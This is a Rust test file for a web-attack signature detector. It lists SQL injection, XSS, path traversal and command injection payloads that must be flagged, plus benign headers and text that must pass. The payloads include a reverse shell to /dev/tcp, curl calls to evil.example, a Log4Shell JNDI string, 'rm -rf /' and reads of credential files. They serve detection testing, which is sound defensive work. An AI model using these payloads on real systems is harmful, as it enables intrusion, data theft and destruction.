#![expect(clippy::unwrap_used, reason = "tests")]

use super::SignatureClass::{Command, Path, Sql, Xss};
use super::*;

const ALL: [SignatureClass; 4] = [Sql, Xss, Path, Command];

/// What must be caught, by the class that catches it when it is alone.
const ATTACKS: &[(SignatureClass, &str)] = &[
    (Sql, "1' UNION SELECT null, username, password FROM users--"),
    (Sql, "-1 union all select 1,2,3"),
    (Sql, "x' UnIoN/**/SeLeCt/**/@@version"),
    (Sql, "1 UNION (SELECT table_name FROM tables)"),
    (Sql, "' OR '1'='1"),
    (Sql, "\") or (\"a\"=\"a"),
    (Sql, "' or 1=1--"),
    (Sql, "x' AND 'a' like 'a"),
    (Sql, "admin' or true--"),
    (Sql, "42 OR 1=1"),
    (Sql, "42) and (7>3"),
    (Sql, "'; DROP TABLE users; --"),
    (Sql, "1; delete from orders"),
    (Sql, "x'); INSERT INTO admins VALUES ('me')"),
    (Sql, "5; update users set role='admin'"),
    (Sql, "1; exec xp_cmdshell 'dir'"),
    (Sql, "a'; EXEC sp_configure 1"),
    (Sql, "1; select pg_sleep(10)"),
    (Sql, "1; select name from users"),
    (Sql, "DROP TABLE users;"),
    (Sql, "admin'--"),
    (Sql, "admin' #"),
    (Sql, "admin'/*"),
    (Sql, "1 AND SLEEP(5)"),
    (Sql, "benchmark(1000000,md5(1))"),
    (Sql, "load_file('/x')"),
    (Sql, "extractvalue(1,concat(0x7e,version()))"),
    (Sql, "a; waitfor delay '0:0:5'"),
    (Sql, "select x into outfile '/tmp/x'"),
    (Sql, "select * from information_schema.tables"),
    (Sql, "select sql from sqlite_master"),
    (Sql, "1 order by 10--"),
    (Sql, "%27%20OR%20%271%27%3D%271"),
    (Sql, "%2527%2520OR%25201%253D1"),
    (Xss, "<script>alert(1)</script>"),
    (Xss, "<ScRiPt src=//evil.example>"),
    (Xss, "</script >"),
    (Xss, "\"><script"),
    (Xss, "<img src=x onerror=alert(1)>"),
    (Xss, "<svg/onload=alert(1)>"),
    (Xss, "<a href='x' onclick = 'go()'>"),
    (Xss, "x\" onmouseover=\"alert(1)"),
    (Xss, "javascript:alert(document.domain)"),
    (Xss, "JaVaScRiPt:%61lert"),
    (Xss, "javascript://x%0aalert(1)"),
    (Xss, "vbscript:msgbox(1)"),
    (Xss, "data:text/html;base64,PHNjcmlwdD4="),
    (Xss, "<iframe src=https://evil.example>"),
    (Xss, "<object data=x>"),
    (Xss, "<meta http-equiv=refresh content=0>"),
    (Xss, "x=document.cookie"),
    (Xss, "eval(atob('YQ=='))"),
    (Xss, "String.fromCharCode(88)"),
    (Xss, "&lt;script&gt;alert(1)"),
    (Xss, "%3Cscript%3Ealert(1)%3C/script%3E"),
    (Path, "../../../../etc/hostname"),
    (Path, "..\\..\\windows"),
    (Path, "../etc/hostname"),
    (Path, "%2e%2e%2f%2e%2e%2fsecret"),
    (Path, "%252e%252e%252f%252e%252e%252f"),
    (Path, "..%c0%af..%c0%afx"),
    (Path, "/x/..;/manager"),
    (Path, "....//....//x"),
    (Path, "/etc/passwd"),
    (Path, "file=etc/shadow"),
    (Path, "/proc/self/environ"),
    (Path, "C:\\Windows\\System32\\x"),
    (Path, "c:\\boot.ini"),
    (Path, "/home/x/.ssh/id_rsa"),
    (Path, "/.git/config"),
    (Path, "/app/.env"),
    (Path, "file:///x"),
    (Path, "php://filter/x"),
    (Path, "x%00.png"),
    (Command, "x; cat /etc/hosts"),
    (Command, "a | curl http://evil.example"),
    (Command, "a && rm -rf /"),
    (Command, "x;whoami"),
    (Command, "$(id)"),
    (Command, "`curl evil.example`"),
    (Command, "x || bash -c 'x'"),
    (Command, "a;powershell -enc x"),
    (Command, "a & b | cmd /c dir"),
    (Command, "${jndi:ldap://evil.example/a}"),
    (Command, "${${lower:j}ndi:x}"),
    (Command, "${${::-j}${::-n}di:x}"),
    (Command, "() { :; }; echo"),
    (Command, "/bin/sh -i"),
    (Command, "C:\\x\\cmd.exe"),
    (Command, "bash -i >& /dev/tcp/10.0.0.1/80"),
];

/// What every class must let pass: headers of browsers and clients, queries, and what people write into fields.
const INNOCENT: &[&str] = &[
    "",
    "gpt-4o-2024-08-06",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "de-DE,de;q=0.9,en;q=0.8",
    "gzip, deflate, br, zstd",
    "OpenAI/Python 1.54.0",
    "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "session=abc123; theme=dark; id=42; ls=1; update=true",
    "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
    "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
    "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"",
    "https://portal.contoso.example/docs/a/b?id=1&sort=desc#top",
    "max-age=604800, public; no-cache",
    "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "{\"team\":\"red\",\"limits\":{\"a\":1,\"b\":[1,2,3]},\"ok\":true}",
    "[{\"name\": \"O'Brien\"}, {\"name\": \"D'Angelo\"}]",
    "name eq 'Müller' and age gt 30",
    "status='open' and priority=1",
    "a.created >= 2026-01-01 or b.owner = me",
    "Bitte wählen Sie 'Ja' oder 'Nein'; danach geht's weiter -- versprochen.",
    "Die Gewerkschaft (Union) selektiert 3 Vertreter; Tabelle 4 fällt weg.",
    "Der Ordner »../Bilder« liegt neben dem Projekt.",
    "Union Select Committee on Trade",
    "the union of select groups from all regions",
    "Drop the table off at 5; update me when done.",
    "Please select one from the list, or 2 and 3.",
    "It's 5 o'clock or later -- isn't it?",
    "rock'n'roll and rhythm'n'blues",
    "JavaScript: The Good Parts (2008)",
    "Ich lerne JavaScript: es ist toll",
    "a <b> and </b> c, 3 < 4 > 2",
    "I<3 scripts; on = off",
    "<p>Hello <b>world</b></p>",
    "mailto:ann@contoso.example",
    "data:image/png;base64,iVBORw0KGgo=",
    "../images/logo.png",
    "/v1/files/report..final.pdf",
    "see etc. and so on...",
    "docs/environment/.envrc.example",
    "profile://x and https://y",
    "R&D; cat food | dog food && more",
    "Tom & Jerry | The Movie",
    "price: $5 (id) and ${name}",
    "a; b; c || d && e",
    "use `id` and `ls` in the shell",
    "100% sure, 50%25 off, 20%20",
    "C:\\Users\\ann\\Documents\\report.docx",
    "SELECT",
    "order by name",
    "sleep (8 hours)",
    "x=1",
    "1=1",
    "#general -- announcements",
    "C# and F#",
    "{{ product }} / {% if x %}",
    "日本語のテキスト、テスト。",
];

#[test]
fn attacks_are_caught_by_their_class() {
    for (class, text) in ATTACKS {
        let alone = Signatures::new(&[*class]).unwrap();
        assert_eq!(alone.find(text), Some(*class), "{text}");
    }
}

#[test]
fn what_people_and_clients_write_passes() {
    let all = Signatures::new(&ALL).unwrap();
    let caught: Vec<_> = INNOCENT.iter().filter_map(|text| Some((all.find(text)?, *text))).collect();
    assert_eq!(caught, []);
}

#[test]
fn every_signature_catches_something() {
    for class in ALL {
        let alone = Signatures::new(&[class]).unwrap();
        let caught = |index: usize| {
            ATTACKS.iter().filter(|(of, _)| *of == class).any(|(_, text)| {
                let once = decoded(text.as_bytes());
                let twice = once.as_deref().and_then(decoded);
                let forms = [Some(text.as_bytes().to_vec()), once, twice];
                forms.into_iter().flatten().any(|form| alone.set.matches(&form).matched(index))
            })
        };
        let idle: Vec<&str> =
            class.patterns().iter().enumerate().filter(|(index, _)| !caught(*index)).map(|(_, pattern)| *pattern).collect();
        assert_eq!(idle, Vec::<&str>::new(), "{class:?}");
    }
}

#[test]
fn a_class_that_is_not_asked_for_says_nothing() {
    let path = Signatures::new(&[Path]).unwrap();
    assert_eq!(path.find("' or 1=1--"), None);
    assert_eq!(Signatures::new(&[]).unwrap().find("../../x"), None);
}

#[test]
fn a_megabyte_of_beginnings_is_judged_in_time() {
    let all = Signatures::new(&ALL).unwrap();
    for piece in ["' or ", "union select ", "<a on", "..", "${", "%25", "<<<<", "'''' "] {
        let text = piece.repeat((1 << 20) / piece.len());
        all.find(&text);
    }
}
